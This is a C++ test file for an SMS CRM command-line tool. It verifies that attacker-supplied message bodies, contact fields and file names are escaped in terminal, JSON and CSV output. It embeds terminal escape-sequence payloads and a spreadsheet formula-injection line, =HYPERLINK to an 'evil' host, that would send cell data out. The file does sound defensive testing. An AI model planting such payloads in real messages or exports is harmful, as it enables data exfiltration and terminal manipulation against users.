// What strangers write must not bite whoever looks at it: in a terminal, in a spreadsheet, in another
// program.
#include <doctest/doctest.h>

#include "core/base/printable.hpp"
#include "core/base/text.hpp"
#include "core/inbox/inbound.hpp"
#include "tests/support/tenant_cli.hpp"

using namespace smscrm;

namespace {

const std::string evil =
    "a\x1b[6n\xc2\x9b"
    "6n\x7f\u202eb";
const std::string shown = "a\\u{1b}[6n\\u{9b}6n\\u{7f}\\u{202e}b";

bool bites(std::string_view text) {
  for (std::size_t at = 0; at < text.size();)
    if (const auto code_point = next_code_point(text, at);
        code_point < 0 || (code_point != '\n' && code_point != '\r' && is_control(code_point)))
      return true;
  return false;
}

struct EvilCli : TenantCli {
  EvilCli() {
    db.run([&](Tx& tx) {
      record_inbound(tx, acme, webhook_slot,
                     {{"SM1", "+14155550123", "+15005550006", evil, "", std::nullopt},
                      {"SM2", "+14155550123", "+15005550006", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "",
                       std::nullopt}},
                     now());
    });
    nlohmann::json row{{"phone", "+14155550123"}, {"first_name", evil}, {evil, evil}};
    const auto result = (*this)({"import", "run", "-", "-q"}, row.dump() + "\n");
    REQUIRE_MESSAGE(result.status == 0, result.err);
  }
};

}  // namespace

TEST_CASE("nothing that a stranger wrote reaches a terminal as it is") {
  const EvilCli cli;
  const std::vector<std::vector<std::string>> commands = {
      {"inbox", "list"},  {"inbox", "show", "1"}, {"contact", "list"}, {"contact", "show", "+14155550123"},
      {"import", "list"},
  };
  for (const auto& command : commands)
    for (const std::string format : {"table", "json", "ndjson"}) {
      auto words = command;
      words.insert(words.end(), {"-o", format});
      CAPTURE(fmt::format("{}", fmt::join(words, " ")));
      const auto result = cli(words);
      CHECK(result.status == 0);
      CHECK_FALSE(bites(result.out));
      CHECK_FALSE(bites(result.err));
    }
  // Keys, too.
  CHECK(cli({"contact", "show", "+14155550123"}).out.find(shown + " " + shown) != std::string::npos);
  const auto json = cli({"contact", "show", "+14155550123", "-o", "json"}).json();
  CHECK(json["attributes"][evil] == evil);
  CHECK(cli({"inbox", "list", "-o", "json"}).json()[1]["body"] == evil);
  CHECK(cli({"template", "create", "evil", "--body", "Hi {{first_name}}"}).status == 0);
  CHECK(cli({"template", "render", "evil", "--to", "+14155550123"}).out == "Hi " + shown + "\n");
}

TEST_CASE("errors, notes and questions are as harmless, in every form") {
  const EvilCli cli;
  const auto header = "ph" + evil + "one,name\n+14155550124,x\n";
  const std::pair<std::vector<std::string>, std::string> mistakes[] = {
      {{"import", "run", "-"}, header},
      {{"import", "run", cli.dir.path() + "/" + evil}, ""},
      {{"contact", "add", evil}, ""},
      {{"contact", evil}, ""},
      {{"contact", "list", "--" + evil}, ""},
      {{"campaign", "show", evil}, ""},
      {{"template", "create", "t", "--body", "{{" + evil}, ""},
      {{"dnc", "import", "-"}, evil + "\n"},
      {{"--config", cli.dir.write("evil.toml", "[" + std::string{"\"a\\u001b[6nb\""} + "]\nx = 1\n"),
        "config", "show"},
       ""},
  };
  for (const auto& [words, input] : mistakes)
    for (const std::string format : {"table", "json"}) {
      auto all = words;
      all.insert(all.begin(), {"-o", format});
      CAPTURE(fmt::format("{}", fmt::join(words, " ")));
      const auto result = cli(all, input);
      CHECK(result.status != 0);
      CHECK(result.err != "");
      CHECK_FALSE(bites(result.err));
      CHECK_FALSE(bites(result.out));
    }
}

TEST_CASE("no cell of a CSV is a formula, unless it is asked for as it is") {
  const EvilCli cli;
  const auto guarded = cli({"inbox", "list", "-o", "csv"}).out;
  CHECK(guarded.find("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"") != std::string::npos);
  CHECK(guarded.find("+14155550123,") != std::string::npos);  // a number is none
  CHECK(cli({"inbox", "list", "-o", "csv", "--csv-raw"}).out.find("\"=HYPERLINK(") != std::string::npos);
  const auto record = cli({"inbox", "show", "2", "-o", "csv"}).out;
  CHECK(record.find("\"'=HYPERLINK(") != std::string::npos);
}

TEST_CASE("what CSV guards comes back as it was, through a list and through rejects") {
  TenantCli cli;
  const std::vector<std::string> names = {"=1+1", "'=1+1", "@x", "'tis", "-", " =2", "+ Bob", "-5", "''-5"};
  std::string rows;
  for (std::size_t i = 0; i < names.size(); ++i)
    rows +=
        nlohmann::json{{"phone", fmt::format("+1415555{:04}", i)}, {"first_name", names[i]}}.dump() + "\n";
  REQUIRE(cli({"import", "run", "-"}, rows).status == 0);
  const auto before = cli({"contact", "list", "-o", "json"}).json();
  const auto csv = cli({"contact", "list", "-o", "csv"}).out;
  CHECK(csv.find("'=1+1") != std::string::npos);
  const auto again = cli({"import", "run", "-", "-o", "json"}, csv);
  REQUIRE(again.status == 0);
  CHECK(again.json()["unchanged"] == names.size());
  CHECK(cli({"contact", "list", "-o", "json"}).json() == before);

  const auto rejects = cli.dir.path() + "/bad.csv";
  REQUIRE(
      cli({"import", "run", "-", "--rejects", rejects}, "phone,first_name,=x\nnobody,=1+1,''=2\n").status ==
      3);
  const auto written = run_command({"cat", rejects}).out;
  CHECK(written.find("nobody,'=1+1,''=2") != std::string::npos);
  CHECK(written.find(",'=x\r\n") != std::string::npos);
  CHECK(cli({"import", "rejects", "3", "-o", "csv"}).out == written);
  auto mended = written;
  mended.replace(mended.find("nobody"), 6, "+14155559999");
  REQUIRE(cli({"import", "run", "-"}, mended).status == 0);
  const auto contact = cli({"contact", "show", "+14155559999", "-o", "json"}).json();
  CHECK(contact["first_name"] == "=1+1");
  CHECK(contact["attributes"]["=x"] == "'=2");
}
